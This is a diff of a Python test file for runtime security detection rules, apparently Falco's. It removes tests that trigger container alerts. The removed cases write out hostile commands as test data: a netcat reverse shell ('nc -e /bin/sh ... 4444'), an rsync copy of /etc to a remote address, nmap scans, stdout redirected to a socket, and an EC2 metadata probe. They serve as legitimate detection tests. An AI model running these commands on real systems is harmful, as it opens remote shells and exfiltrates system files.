@@ -5,11 +5,11 @@ module. Each test performs the attack-like action in a child process and asserts
 the expected alerts (rule titles, once each) arrive for that process tree. Rules that
 legitimately fire together on one action are listed together, with the reason.
 
-Not covered here: Linux Kernel Module Injection Detected (no init_module/finit_module
-tracepoints on a kernel built without modules), Debugfs Launched in Privileged Container (no
-`process.container.privileged`), Detect outbound connections to common miner
-pool ports (needs the peer's DNS name, which the document does not carry, for a miner domain
-this offline host cannot resolve).
+The container rules are triggered inside real containers in tests/container/test_rules_live.py.
+Not covered: Linux Kernel Module Injection Detected (no init_module/finit_module tracepoints on
+a kernel built without modules), Detect outbound connections to common miner pool ports (needs
+the peer's DNS name, which the document does not carry, for a miner domain this offline host
+cannot resolve).
 """
 
 from __future__ import annotations
@@ -25,15 +25,12 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import require
-from tests.kernel.conftest import CaptureHarness, overlay_mount
+from tests.kernel.conftest import CaptureHarness
 from tests.kernel.rules_harness import (
     PYTHON,
     LiveRun,
-    cgroup2_root,
-    docker_cgroup,
     env_with,
     host_has_default_route,
-    in_cgroup,
     named_copy,
     python_action,
     removed_after,
@@ -611,193 +608,3 @@ def test_interpreted_procs_inbound_network_activity(live: LiveRun) -> None:
         return receiver.pid
 
     assert_exactly(live, action, {"Interpreted procs inbound network activity"})
-
-
-# --- containers (a cgroup laid out like Docker's) ------------------------------------------
-
-
-@pytest.fixture
-def container(live: LiveRun) -> Iterator[Path]:
-    root = cgroup2_root()
-    require(root is not None, "no cgroup v2 hierarchy mounted")
-    assert root is not None
-    with docker_cgroup(root) as cgroup:
-        yield cgroup
-
-
-NET_TOOL_CONTAINER = "Launch Suspicious Network Tool in Container"
-
-CONTAINER_EXEC_CASES: dict[str, tuple[tuple[str, ...], frozenset[str]]] = {
-    "apt-get": (
-        ("apt-get", "install", "-y", "nmap"),
-        frozenset({"Launch Package Management Process in Container"}),
-    ),
-    "rsync": (
-        ("rsync", "-a", "/etc", "198.51.100.1:/x"),
-        frozenset({"Launch Remote File Copy Tools in Container"}),
-    ),
-    "nmap": (("nmap", "-sT", ROUTABLE_PEER), frozenset({NET_TOOL_CONTAINER})),
-    "nc -e": (
-        ("nc", "-e", "/bin/sh", ROUTABLE_PEER, "4444"),
-        frozenset({NET_TOOL_CONTAINER, "Netcat Remote Code Execution in Container"}),
-    ),
-}
-
-
-@pytest.mark.parametrize(
-    ("argv", "expected"), CONTAINER_EXEC_CASES.values(), ids=CONTAINER_EXEC_CASES.keys()
-)
-def test_exec_in_container(
-    live: LiveRun,
-    tmp_path: Path,
-    container: Path,
-    argv: tuple[str, ...],
-    expected: frozenset[str],
-) -> None:
-    tool = named_copy(tmp_path, argv[0])
-    assert_exactly(
-        live, lambda: run_action(in_cgroup(container, [str(tool), *argv[1:]])), set(expected)
-    )
-
-
-def test_drop_and_execute_new_binary_in_container(
-    live: LiveRun, tmp_path: Path, container: Path
-) -> None:
-    # The container's root is an overlayfs; a binary written into it after start lives in
-    # the upper layer, one that came with the image in the lower layer.
-    with overlay_mount(tmp_path / "root") as (lower, merged):
-        shipped = named_copy(lower, "shipped-tool")
-        image_binary = str(merged / shipped.name)
-        assert_exactly(live, lambda: run_action(in_cgroup(container, [image_binary])), set())
-        dropped = named_copy(merged, "dropped-payload")
-        assert_exactly(
-            live,
-            lambda: run_action(in_cgroup(container, [str(dropped)])),
-            {"Drop and execute new binary in container"},
-        )
-
-
-_TERMINAL_SHELL = """
-import os, subprocess, sys
-cgroup = sys.argv[1]
-with open(cgroup + "/cgroup.procs", "w") as f:
-    f.write(str(os.getpid()))
-primary, secondary = os.openpty()
-shell = subprocess.Popen(
-    ["/bin/sh", "-c", "exit 0"], stdin=secondary, stdout=secondary, stderr=secondary,
-    start_new_session=True, process_group=None,
-    preexec_fn=lambda: __import__("fcntl").ioctl(0, __import__("termios").TIOCSCTTY, 0),
-)
-assert shell.wait() == 0
-"""
-
-
-def test_terminal_shell_in_container(live: LiveRun, tmp_path: Path, container: Path) -> None:
-    # The container runtime's shim (a python copy named containerd-shim) starts a shell on a
-    # new terminal inside the container, as `docker exec -it` does.
-    shim = named_copy(tmp_path, "containerd-shim", PYTHON)
-    assert_exactly(
-        live,
-        lambda: run_action([str(shim), "-I", "-S", "-c", _TERMINAL_SHELL, str(container)]),
-        {"Terminal shell in container"},
-    )
-
-
-def _python_in(container: Path, code: str, *args: str, env: dict[str, str] | None = None) -> int:
-    return run_action(in_cgroup(container, [PYTHON, "-I", "-S", "-c", code, *args]), env=env)
-
-
-_PACKET_SOCKET = """
-import socket
-socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
-"""
-
-
-def test_packet_socket_created_in_container(live: LiveRun, container: Path) -> None:
-    assert_exactly(
-        live, lambda: _python_in(container, _PACKET_SOCKET), {"Packet socket created in container"}
-    )
-
-
-@pytest.fixture
-def loopback_listener() -> Iterator[socket.socket]:
-    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    server.bind(("127.0.0.1", 0))
-    server.listen(8)
-    try:
-        yield server
-    finally:
-        server.close()
-
-
-_TCP_CONNECT = """
-import socket, sys
-s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
-s.close()
-"""
-
-
-def test_contact_k8s_api_server_from_container(
-    live: LiveRun, container: Path, loopback_listener: socket.socket
-) -> None:
-    # The pod's environment names the API server; a local listener plays it.
-    host, port = loopback_listener.getsockname()
-    env = env_with(KUBERNETES_SERVICE_HOST=host, KUBERNETES_SERVICE_PORT=str(port))
-    assert_exactly(
-        live,
-        lambda: _python_in(container, _TCP_CONNECT, host, str(port), env=env),
-        {"Contact K8S API Server From Container"},
-    )
-
-
-_REDIRECT_STDOUT = """
-import os, socket, sys
-s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
-os.dup2(s.fileno(), 1)
-"""
-
-
-def test_redirect_stdout_to_network_connection_in_container(
-    live: LiveRun, container: Path, loopback_listener: socket.socket
-) -> None:
-    host, port = loopback_listener.getsockname()
-    assert_exactly(
-        live,
-        lambda: _python_in(container, _REDIRECT_STDOUT, host, str(port)),
-        {"Redirect STDOUT/STDIN to Network Connection in Container"},
-    )
-
-
-def test_contact_ec2_instance_metadata_service_from_container(
-    live: LiveRun, container: Path
-) -> None:
-    _require_route()
-    # UDP connect(): a route lookup towards 169.254.169.254, no packet sent. The process is a
-    # python, so Falco's interpreted-outbound rule rightly fires too.
-    assert_exactly(
-        live,
-        lambda: _python_in(container, _UDP_CONNECT, "169.254.169.254", "80"),
-        {"Contact EC2 Instance Metadata Service From Container", INTERPRETED_OUT},
-    )
-
-
-def test_unexpected_k8s_nodeport_connection(live: LiveRun, container: Path) -> None:
-    _require_route()
-    # UDP to a port outside Falco's expected UDP ports: Unexpected UDP Traffic fires too.
-    assert_exactly(
-        live,
-        lambda: _python_in(container, _UDP_CONNECT, ROUTABLE_PEER, "30080"),
-        {"Unexpected K8s NodePort Connection", INTERPRETED_OUT, "Unexpected UDP Traffic"},
-    )
-
-
-def test_detect_release_agent_file_container_escapes(
-    live: LiveRun, tmp_path: Path, container: Path
-) -> None:
-    # A file named like cgroup v1's release_agent (the rule matches the name): writing the
-    # real one would be the escape itself.
-    assert_exactly(
-        live,
-        lambda: _python_in(container, _CREATE, str(tmp_path / "release_agent")),
-        {"Detect release_agent File Container Escapes"},
-    )
